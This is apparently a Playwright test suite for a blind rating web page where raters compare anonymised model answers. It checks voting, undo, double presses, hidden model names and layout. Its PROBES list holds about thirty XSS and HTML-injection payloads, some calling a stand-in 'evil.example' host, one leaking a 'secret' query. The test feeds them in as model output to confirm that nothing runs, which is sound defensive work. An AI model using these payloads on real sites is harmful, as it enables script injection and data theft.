"""Blind rating in a real browser: it votes, and nothing that a model wrote does anything."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.ui.browsing import MARKS, serving
from weighbridge.core.rating_session import Rater, RatingAnswer, RatingInfo, RatingInput, Said
from weighbridge.verbs.rate_desk import Desk
from weighbridge.workspace.ballots import Ratings

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext, Page

pytestmark = MARKS

MODELS = ("acme/Falcon-Nest-7B", "acme/Otter-Den-9B", "zebra-stripe-3b")
EVIL = "http://evil.example"
PROBES = (
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    f"<img src='{EVIL}/a.png'>",
    f"![picture]({EVIL}/b.png)",
    f"![x](x\"onerror=\"window.hit=1)![y]({EVIL}/?q=secret)",
    "[click](javascript:window.hit=1)",
    "[click](data:text/html,<script>window.hit=1</script>)",
    "<javascript:window.hit=1>",
    f"<{EVIL}/auto>",
    "<svg onload='window.hit = 1'><script>window.hit = 1</script></svg>",
    f"<svg><image href='{EVIL}/c.svg'/><use href='{EVIL}/d.svg#x'/></svg>",
    f"<style>@import url({EVIL}/e.css); * {{ background: url({EVIL}/f.png) }}</style>",
    f"<link rel=stylesheet href={EVIL}/g.css>",
    f"<iframe src='{EVIL}/h.html' srcdoc='<script>parent.hit=1</script>'></iframe>",
    f"<object data='{EVIL}/i'></object><embed src='{EVIL}/j'>",
    f"<form action='{EVIL}/k'><button autofocus onfocus='window.hit=1'>1</button></form>",
    f"<base href='{EVIL}/'><meta http-equiv=refresh content='0;url={EVIL}/l'>",
    "</script><script>window.hit = 1</script>",
    "</section></main><h1>Owned</h1><!-- ",
    "<!--<script>window.hit=1</script>-->",
    "```html\n</code></pre><script>window.hit = 1</script>\n```",
    "`</code><img src=x onerror=window.hit=1>`",
    "| a | <script>window.hit=1</script> |\n|---|---|\n| <img src=x onerror=window.hit=1> | b |",
    "# <img src=x onerror=window.hit=1>",
    "> <details open ontoggle=window.hit=1>",
    "- <video><source onerror=window.hit=1></video>",
    "**<a href='javascript:window.hit=1' id=votes name=first>x</a>**",
    "{{ 7*7 }} ${window.hit=1} <%= 1 %>",
    "\u202e gnp.exe \u2066 hidden \u0000 nul",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
)  # fmt: skip


def rated(root: Path, inputs: int, *, probes: bool = False) -> tuple[Ratings, RatingInfo, Rater]:
    ratings = Ratings(root)
    info = RatingInfo(
        "rating-abcdef", "2026-01-01T00:00:00Z", "blind", "sample.jsonl", MODELS, inputs,
        seed=7, target=inputs,
    )  # fmt: skip
    said = [PROBES[n % len(PROBES)] if probes else f"Question {n}" for n in range(inputs)]
    ratings.create(
        info,
        [RatingInput(f"i{n}", one, (Said("system", one),)) for n, one in enumerate(said)],
    )
    for n in range(inputs):
        for place, model in enumerate(MODELS):
            probe = (
                PROBES[(3 * n + place) % len(PROBES)] if probes else f"Answer **{place}** to {n}"
            )
            text = f"{place}\n\n{probe}\n\nEnd {n}."
            ratings.add_answer(info.id, RatingAnswer(f"i{n}", model, text))
    return ratings, info, ratings.add_rater(info.id, "Ada")


@pytest.fixture
def votes(tmp_path: Path) -> tuple[Ratings, RatingInfo, Rater]:
    return rated(tmp_path, 6)


@pytest.fixture
def url(tmp_path: Path, votes: tuple[Ratings, RatingInfo, Rater]) -> Iterator[str]:
    assert votes
    with serving(tmp_path) as address:
        yield address


def press(page: Page, key: str, count: str) -> None:
    page.wait_for_timeout(450)
    page.keyboard.press(key)
    page.get_by_text(count, exact=True).wait_for(timeout=5000)


def test_votes_by_keyboard_and_button_with_undo_and_resume(
    page: Page, url: str, votes: tuple[Ratings, RatingInfo, Rater]
) -> None:
    ratings, info, rater = votes
    page.goto(f"{url}/rate/by/{rater.token}")
    page.get_by_text("0 of 6", exact=True).wait_for()
    first = page.locator("#left").inner_text()
    page.get_by_label("Reason, if you like").fill("clearer, 12 of 34")
    assert ratings.ballots(info.id) == [], "figures typed into the reason are no votes"
    page.keyboard.press("Escape")
    press(page, "1", "1 of 6")
    press(page, "4", "2 of 6")
    press(page, "u", "1 of 6")
    assert page.locator("[aria-pressed=true]").inner_text().endswith("Both bad")
    page.wait_for_timeout(450)
    page.get_by_role("button", name="Equally good").click()
    page.get_by_text("2 of 6", exact=True).wait_for()
    waiting = page.locator("#left").inner_text()
    page.reload()
    page.get_by_text("2 of 6", exact=True).wait_for()
    assert page.locator("#left").inner_text() == waiting
    for number, key in enumerate("2312", start=3):
        press(page, key, f"{number} of 6")
    page.get_by_text("That was all.").wait_for()
    kept = ratings.ballots(info.id)
    assert [one.winner for one in kept] == ["a", "tie", "b", "tie", "a", "b"]
    assert kept[0].reason == "clearer, 12 of 34"
    assert {one.rater for one in kept} == {"Ada"}
    shown = next(one for one in ratings.answers(info.id)
                 if (one.item, one.model) == (kept[0].item, kept[0].a))  # fmt: skip
    assert first.split() == shown.text.replace("*", "").split(), "a is what stood on the left"


@pytest.mark.flaky(reruns=2)  # a press counts as double for less than half a second of real time
def test_a_double_press_is_one_vote(
    page: Page, errors: list[str], tmp_path: Path, url: str,
    votes: tuple[Ratings, RatingInfo, Rater],
) -> None:  # fmt: skip
    ratings, info, rater = votes
    page.goto(f"{url}/rate/by/{rater.token}")
    page.wait_for_timeout(450)
    page.keyboard.press("1")
    page.keyboard.press("1")
    page.get_by_text("1 of 6", exact=True).wait_for()
    page.keyboard.press("1")
    page.wait_for_timeout(200)
    assert len(ratings.ballots(info.id)) == 1
    # Another tab has given the ballot meanwhile: what was written here is not lost.
    page.get_by_label("Reason, if you like").fill("written in vain")
    page.keyboard.press("Escape")
    desk = Desk(tmp_path)
    seat = desk.seat(rater.token)
    desk.vote(seat, desk.show(seat).id, "tie", "")
    page.wait_for_timeout(450)
    page.keyboard.press("2")
    page.get_by_text("You had written: written in vain").wait_for()
    errors.clear()  # the browser calls the answer 409 an error
    assert [one.winner for one in ratings.ballots(info.id)] == ["a", "tie"]


def test_nothing_that_a_model_wrote_does_anything(
    context: BrowserContext, page: Page, tmp_path: Path
) -> None:
    ratings, info, rater = rated(tmp_path, 30, probes=True)
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    with serving(tmp_path) as address:
        page.goto(f"{address}/rate/by/{rater.token}")
        for number in range(30):
            page.get_by_text(f"{number} of 30", exact=True).wait_for()
            assert page.evaluate("window.hit") is None
            inside = page.evaluate(
                """() => {
                  const tags = new Set(), attributes = new Set()
                  for (const one of document.querySelectorAll('.rate-text *')) {
                    tags.add(one.localName)
                    for (const name of one.getAttributeNames()) attributes.add(name)
                  }
                  return [[...tags], [...attributes]]
                }"""
            )
            assert set(inside[0]) <= {"p", "h3", "h4", "h5", "pre", "code", "strong", "em", "del",
                                      "ul", "ol", "li", "blockquote", "table", "tr", "th", "td",
                                      "hr", "br"}  # fmt: skip
            assert inside[1] == []
            assert page.locator("h1").inner_text() == "Which answer is better?"
            press(page, "3", f"{number + 1} of 30")
        assert len(ratings.ballots(info.id)) == 30
    assert all(one.startswith(address) for one in asked), asked


def test_the_browser_never_hears_of_a_model(
    context: BrowserContext, page: Page, url: str, votes: tuple[Ratings, RatingInfo, Rater]
) -> None:
    _, _, rater = votes
    heard: list[str] = []
    context.on("response", lambda one: heard.append(f"{one.all_headers()} {one.text()}"))
    page.goto(f"{url}/rate/by/{rater.token}")
    for number in range(3):
        press(page, "1", f"{number + 1} of 6")
    press(page, "u", "2 of 6")
    votes_heard = [one for one in heard if '"ballot"' in one]
    assert len(votes_heard) >= 4
    for one in heard:
        for word in ("acme", "falcon", "otter", "zebra", "stripe"):
            assert word not in one.lower()
    told = json.loads(votes_heard[-1][votes_heard[-1].index('{"next"') :])["next"]
    assert set(told) == {"ballot", "done", "total", "before", "prompt", "left", "right",
                         "chosen", "reason", "closed"}  # fmt: skip


def test_results_wait_for_the_end_in_a_raters_browser(
    context: BrowserContext, page: Page, errors: list[str], url: str,
    votes: tuple[Ratings, RatingInfo, Rater],
) -> None:  # fmt: skip
    ratings, info, rater = votes
    page.goto(f"{url}/rate/{info.id}")
    page.get_by_text("Nobody has voted yet.").wait_for()
    page.goto(f"{url}/rate/by/{rater.token}")
    press(page, "1", "1 of 6")
    page.goto(f"{url}/rate/{info.id}")
    page.get_by_text("Somebody rates in this browser").first.wait_for()
    assert "403" in errors.pop()
    assert "zebra" not in page.content()
    ratings.close(info, "2026-01-02T00:00:00Z")
    page.reload()
    page.get_by_text("acme/Otter-Den-9B").or_(page.get_by_text("zebra-stripe-3b")).first.wait_for()
    page.goto(f"{url}/rate/by/{rater.token}")
    page.get_by_text("This rating is closed.").wait_for()
    assert context.cookies()


@pytest.mark.parametrize(("width", "scheme"), [(360, "light"), (1400, "dark")])
def test_it_fits_and_can_be_read(page: Page, tmp_path: Path, width: int, scheme: str) -> None:
    _, _, rater = rated(tmp_path, 6)
    with serving(tmp_path) as url:
        _fits(page, f"{url}/rate/by/{rater.token}", width, scheme)
        page.screenshot(path=tmp_path / f"rate-{width}-{scheme}.png", full_page=True)


def _fits(page: Page, url: str, width: int, scheme: str) -> None:
    page.set_viewport_size({"width": width, "height": 800})
    page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
    page.goto(url)
    page.get_by_text("0 of 6", exact=True).wait_for()
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    left, right = (page.locator(f"#{side}").bounding_box() for side in ("left", "right"))
    assert left is not None
    assert right is not None
    assert (left["x"] == right["x"]) == (width == 360)
